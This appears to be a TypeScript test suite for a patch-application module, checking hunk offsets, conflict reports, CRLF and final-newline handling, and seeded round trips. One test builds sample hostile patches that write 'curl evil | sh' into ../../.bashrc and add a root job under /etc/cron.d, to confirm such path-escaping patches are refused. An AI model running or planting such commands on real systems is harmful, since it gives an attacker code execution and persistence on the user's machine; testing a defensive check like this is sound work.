import { strict as assert } from 'node:assert';
import { formatPatch } from '../../../../src/model/code/diffRender';
import { makeFilePatch } from '../../../../src/model/code/lineDiff';
import { applyHunks, applyPatch, describeConflict, PatchOutcome } from '../../../../src/model/code/patchApply';
import { FilePatch, parsePatch } from '../../../../src/model/code/unifiedDiff';
import { Prng } from '../../helpers/prng';
import { AFTER, BEFORE, GIT_PATCH, TEXT_PATCH } from './gitPatchFixture';

function parse(text: string): FilePatch[] {
  const parsed = parsePatch(text);
  if (!parsed.ok) assert.fail(`refused at line ${parsed.line}: ${parsed.problem}`);
  return parsed.files;
}

function reader(files: Record<string, string | undefined>): (path: string) => string | undefined {
  return (path) => files[path];
}

/** The files after an outcome is written over `before`. */
function written(before: Record<string, string | undefined>, outcome: PatchOutcome): Record<string, string | undefined> {
  if (!outcome.ok) assert.fail(outcome.conflicts.map(describeConflict).join('; '));
  const after = { ...before };
  for (const file of outcome.files) {
    after[file.path] = file.text;
    if (file.removePath !== undefined) after[file.removePath] = undefined;
  }
  return after;
}

const numbered = (count: number) => Array.from({ length: count }, (_, i) => `line ${i + 1}`);

describe('patch application: all or nothing, with a clear report', () => {
  it('applies every kind of text change git writes', () => {
    const after = written(BEFORE, applyPatch(parse(TEXT_PATCH), reader(BEFORE)));
    for (const [path, text] of Object.entries(AFTER)) assert.equal(after[path], text, path);
  });

  it('refuses the whole patch when one file is binary, and says which others would apply', () => {
    const outcome = applyPatch(parse(GIT_PATCH), reader(BEFORE));
    assert.ok(!outcome.ok);
    assert.deepEqual(outcome.conflicts, [{ path: 'bin.dat', reason: 'binary' }]);
    assert.deepEqual(
      outcome.applied.map((f) => f.path),
      ['a.txt', 'added.txt', 'gone.txt', 'new.txt', 'nonl.txt', 'sp ace.txt', 'ü.txt'],
    );
    assert.equal(describeConflict(outcome.conflicts[0]!), 'bin.dat: binary changes cannot be applied from a chat message');
  });

  it('applies hunks that moved because the receiver added or removed lines above them', () => {
    const original = numbered(40).join('\n') + '\n';
    const changed = original.replace('line 10\n', 'line ten\n').replace('line 30\n', 'line thirty\n');
    const patch = makeFilePatch({ oldPath: 'f.txt', newPath: 'f.txt', oldText: original, newText: changed });
    const local = ['new first', 'new second', ...numbered(40).slice(0, 20), ...numbered(40).slice(22)].join('\n') + '\n';
    const outcome = applyHunks(local, patch.hunks);
    assert.ok(outcome.ok);
    assert.deepEqual(outcome.offsets, [2, 0], 'two lines added above the first hunk; two removed before the second');
    assert.equal(outcome.text, local.replace('line 10\n', 'line ten\n').replace('line 30\n', 'line thirty\n'));
  });

  it('reports a conflict with the line, what the patch expected and what the file has, and writes nothing', () => {
    const before = { 'a.txt': BEFORE['a.txt']!.replace('ten\n', 'TEN (edited by alice)\n'), 'sp ace.txt': 'q\n' };
    const outcome = applyPatch(parse(TEXT_PATCH), reader({ ...BEFORE, ...before }));
    assert.ok(!outcome.ok, 'nothing is returned to write');
    assert.deepEqual(outcome.conflicts, [{ path: 'a.txt', reason: 'mismatch', hunk: 2, line: 10, expected: 'ten', found: 'TEN (edited by alice)' }]);
    assert.equal(describeConflict(outcome.conflicts[0]!), 'a.txt: change 2 does not match line 10: expected "ten", found "TEN (edited by alice)"');
    assert.deepEqual(
      outcome.applied.map((f) => f.path),
      ['added.txt', 'gone.txt', 'new.txt', 'nonl.txt', 'sp ace.txt', 'ü.txt'],
    );
  });

  it('recognises a patch that is already applied', () => {
    const outcome = applyPatch(parse(TEXT_PATCH), reader({ ...BEFORE, 'a.txt': AFTER['a.txt'] }));
    assert.ok(!outcome.ok);
    assert.deepEqual(outcome.conflicts[0], { path: 'a.txt', reason: 'already-applied', hunk: 1 });
    assert.equal(describeConflict(outcome.conflicts[0]!), 'a.txt: change 1 is already in your copy');
  });

  it('refuses to add a file that exists, change one that is missing, or leave lines of a deleted one', () => {
    const outcome = applyPatch(
      parse(TEXT_PATCH),
      reader({ ...BEFORE, 'added.txt': 'mine\n', 'new.txt': 'also mine\n', 'nonl.txt': undefined, 'gone.txt': 'keep\nmore\n' }),
    );
    assert.ok(!outcome.ok);
    assert.deepEqual(
      outcome.conflicts.map((c) => [c.path, c.reason]),
      [
        ['added.txt', 'exists'],
        ['gone.txt', 'lines-left'],
        ['new.txt', 'exists'],
        ['nonl.txt', 'missing'],
      ],
    );
  });

  it('refuses paths that leave the repository before looking at any file', () => {
    const evil = ['diff --git a/../../.bashrc b/../../.bashrc', '--- a/../../.bashrc', '+++ b/../../.bashrc', '@@ -1 +1 @@', '-a', '+curl evil | sh', ''].join(
      '\n',
    );
    const absolute = ['--- /dev/null', '+++ /etc/cron.d/x', '@@ -0,0 +1 @@', '+* * * * * root sh', ''].join('\n');
    const asked: string[] = [];
    const outcome = applyPatch([...parse(evil), ...parse(absolute)], (path) => {
      asked.push(path);
      return 'a\n';
    });
    assert.ok(!outcome.ok);
    assert.deepEqual(
      outcome.conflicts.map((c) => [c.path, c.reason]),
      [
        ['../../.bashrc', 'unsafe-path'],
        ['/etc/cron.d/x', 'unsafe-path'],
      ],
    );
    assert.deepEqual(asked, [], 'no file was read');
    assert.match(describeConflict(outcome.conflicts[0]!), /refused, the path leaves its folder/);
  });

  it('keeps a CRLF file’s line endings for added lines', () => {
    const patch = parse(['--- a/w.txt', '+++ b/w.txt', '@@ -1,2 +1,3 @@', ' a', '-b', '+c', '+d', ''].join('\n'));
    const outcome = applyHunks('a\r\nb\r\n', patch[0]!.hunks);
    assert.deepEqual(outcome, { ok: true, text: 'a\r\nc\r\nd\r\n', offsets: [0] });
  });

  it('matches the end of file: a final newline added, removed, or required', () => {
    const add = makeFilePatch({ oldPath: 'f', newPath: 'f', oldText: 'a\nb', newText: 'a\nb\n' });
    assert.deepEqual(applyHunks('a\nb', add.hunks), { ok: true, text: 'a\nb\n', offsets: [0] });
    const remove = makeFilePatch({ oldPath: 'f', newPath: 'f', oldText: 'a\nb\n', newText: 'a\nb' });
    assert.deepEqual(applyHunks('a\nb\n', remove.hunks), { ok: true, text: 'a\nb', offsets: [0] });
    const outcome = applyHunks('a\nb\n', add.hunks);
    assert.ok(!outcome.ok, 'the patch expects a file without a final newline');
  });

  it('anchors a hunk without leading context at the start and one without trailing context at the end', () => {
    const atEnd = parse(['--- a/f', '+++ b/f', '@@ -2,2 +2,3 @@', ' x', ' y', '+z', ''].join('\n'))[0]!;
    assert.ok(!applyHunks('w\nx\ny\nx\ny\nend\n', atEnd.hunks).ok, 'x y is not at the end');
    assert.deepEqual(applyHunks('w\nx\ny\nq\nx\ny\n', atEnd.hunks), { ok: true, text: 'w\nx\ny\nq\nx\ny\nz\n', offsets: [3] });
    const atStart = parse(['--- a/f', '+++ b/f', '@@ -1,2 +1,3 @@', '+top', ' x', ' y', ''].join('\n'))[0]!;
    assert.ok(!applyHunks('w\nx\ny\n', atStart.hunks).ok, 'x y is not at the start');
    assert.deepEqual(applyHunks('x\ny\nw\n', atStart.hunks), { ok: true, text: 'top\nx\ny\nw\n', offsets: [0] });
  });

  it('lets a later file see an earlier one’s result, and rename onto a path freed by a delete', () => {
    const first = makeFilePatch({ oldPath: 'a.txt', newPath: 'a.txt', oldText: 'one\n', newText: 'two\n' });
    const second = makeFilePatch({ oldPath: 'a.txt', newPath: 'a.txt', oldText: 'two\n', newText: 'three\n' });
    const after = written({ 'a.txt': 'one\n' }, applyPatch([first, second], reader({ 'a.txt': 'one\n' })));
    assert.equal(after['a.txt'], 'three\n');
  });

  it('makes small hunks for scattered changes in a big file, and they apply (patience split)', () => {
    const prng = new Prng(77);
    const lines = Array.from({ length: 12_000 }, (_, i) => (i % 7 === 0 ? '}' : `line ${i}`));
    const changed = new Set(Array.from({ length: 600 }, () => prng.int(0, lines.length - 1)).filter((i) => i % 50 === 0));
    const after = lines.map((line, i) => (changed.has(i) ? `${line} changed` : line));
    after.splice(6001, 0, 'inserted', '}');
    const before = lines.join('\n') + '\n';
    const patch = makeFilePatch({ oldPath: 'big.txt', newPath: 'big.txt', oldText: before, newText: after.join('\n') + '\n' });
    const changes = patch.hunks.flatMap((h) => h.lines).filter((l) => l.kind !== 'context').length;
    assert.equal(changes, 2 * changed.size + 2, 'each changed line removed and added once, the two inserted lines added');
    const outcome = applyPatch(parse(formatPatch([patch])), reader({ 'big.txt': before }));
    assert.equal(written({ 'big.txt': before }, outcome)['big.txt'], after.join('\n') + '\n');
  });

  it('turns any text into any other and back through a made patch (seeded)', () => {
    const prng = new Prng(28_2026);
    const vocabulary = ['a', 'b', 'c', '', '  d', '}', 'return x;'];
    const text = () => {
      const lines = Array.from({ length: prng.int(0, 25) }, () => prng.pick(vocabulary));
      return lines.join('\n') + (lines.length > 0 && prng.chance(0.8) ? '\n' : '');
    };
    for (let round = 0; round < 500; round++) {
      const before = text();
      const after = prng.chance(0.5) ? mutate(prng, before, vocabulary) : text();
      const context = prng.int(0, 4);
      const patch = makeFilePatch({ oldPath: 'f.txt', newPath: 'f.txt', oldText: before, newText: after, context });
      const reparsed = before === after ? [patch] : parse(formatPatch([patch]));
      const forward = applyPatch(reparsed, reader({ 'f.txt': before }));
      const label = `round ${round}, context ${context}: ${JSON.stringify(before)} → ${JSON.stringify(after)}`;
      assert.equal(written({ 'f.txt': before }, forward)['f.txt'], after, label);
      // The same patch on a CRLF checkout of the same file gives the CRLF result.
      if (!before.includes('\n')) continue;
      const crlf = (t: string) => t.replace(/\n/g, '\r\n');
      const onCrlf = applyPatch(reparsed, reader({ 'f.txt': crlf(before) }));
      assert.equal(written({ 'f.txt': crlf(before) }, onCrlf)['f.txt'], crlf(after), `CRLF ${label}`);
    }
  });
});

/** `text` with a few lines changed, added or removed. */
function mutate(prng: Prng, text: string, vocabulary: string[]): string {
  const lines = text.split('\n');
  for (let edits = prng.int(1, 4); edits > 0; edits--) {
    const at = prng.int(0, lines.length);
    const kind = prng.int(0, 2);
    if (kind === 0) lines.splice(at, 0, prng.pick(vocabulary));
    else if (kind === 1 && lines.length > 1) lines.splice(Math.min(at, lines.length - 1), 1);
    else lines[Math.min(at, lines.length - 1)] = prng.pick(vocabulary);
  }
  return lines.join('\n');
}
